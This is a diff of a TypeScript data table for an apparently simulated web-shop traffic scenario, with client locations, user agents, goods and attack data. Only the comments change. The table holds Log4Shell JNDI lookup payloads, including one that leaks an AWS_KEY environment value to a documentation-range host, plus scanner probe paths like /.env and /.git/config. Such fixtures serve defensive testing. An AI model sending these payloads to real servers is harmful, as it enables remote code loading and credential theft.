@@ -1,7 +1,7 @@
-// The words of the story, as tables: places, browsers, bots, goods, search terms. A data table; no logic.
-// Addresses come from the ranges set aside for documentation and benchmarks, the attacker's ASN too.
+// The data of the story: places, browsers, bots, goods, search terms. A data table without logic. Addresses and the
+// attacker's ASN come from the ranges reserved for documentation and benchmarks.
 
-/** Where clients are: country as the platform stores it (lower case), data centre, networks, language, weight. */
+/** Locations of clients: country as the platform stores it (lower case), data center, networks, language, weight. */
 export const PLACES: readonly {
   country: string;
   colo: string;
@@ -23,7 +23,7 @@ export const PLACES: readonly {
   { country: 'in', colo: 'BOM', asns: [55836, 24560], language: 'en-IN,en;q=0.9,hi;q=0.7', weight: 1 },
 ];
 
-/** Where the attack comes from: one network (ASN 64500 is set aside for documentation) in three countries. */
+/** Locations of the attack: one network (ASN 64500 is reserved for documentation) in three countries. */
 export const ATTACK_PLACES = [
   { country: 'nl', colo: 'AMS' },
   { country: 'us', colo: 'IAD' },
@@ -49,7 +49,7 @@ export const APP_AGENTS = [
   'お買い物アプリ/7.3.9 (iPhone16,1; iOS 26.0) CFNetwork/3857.100.1 Darwin/25.0.0',
 ] as const;
 
-/** Crawlers: user agent, the tags and detections the platform gives them, whether it knows them. */
+/** Crawlers: user agent, tags and detections of the platform, whether the platform verifies them. */
 export const CRAWLERS: readonly { agent: string; asn: number; tags: readonly string[]; ids: readonly number[] }[] = [
   {
     agent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
@@ -81,7 +81,7 @@ export const ATTACK_AGENTS = [
   'Go-http-client/2.0',
 ] as const;
 
-/** Goods, by the name in the shop; the path holds it percent-encoded. */
+/** Names of the goods in the shop; the path contains them percent-encoded. */
 export const GOODS = [
   'Trail Runner 3',
   'Café-Crème Maker',
@@ -120,7 +120,7 @@ export const SEARCH_TERMS = [
   'mug',
 ] as const;
 
-/** What the shop greets a returning visitor with, kept in a cookie; empty for most. */
+/** The greeting of a returning visitor, stored in a cookie; empty for most. */
 export const GREETINGS = [
   '',
   '',
@@ -134,7 +134,7 @@ export const GREETINGS = [
 /** Begins a Log4j lookup. */
 const OPEN = '${';
 
-/** What scanners send as `x-api-version`: Log4Shell, or nothing bad. */
+/** Values that scanners send as `x-api-version`: Log4Shell, or harmless text. */
 export const SCAN_PROBES = [
   `${OPEN}jndi:ldap://192.0.2.66:1389/${OPEN}env:AWS_KEY}}`,
   `${OPEN}${OPEN}lower:j}ndi:dns://192.0.2.66/x}`,
@@ -147,7 +147,7 @@ export const SCAN_AGENTS = [
   `Mozilla/5.0 (${OPEN}jndi:ldap://192.0.2.66/ua})`,
 ] as const;
 
-/** Paths a vulnerability scanner tries. */
+/** Paths that a vulnerability scanner tries. */
 export const SCAN_PATHS = [
   '/.env',
   '/.git/config',
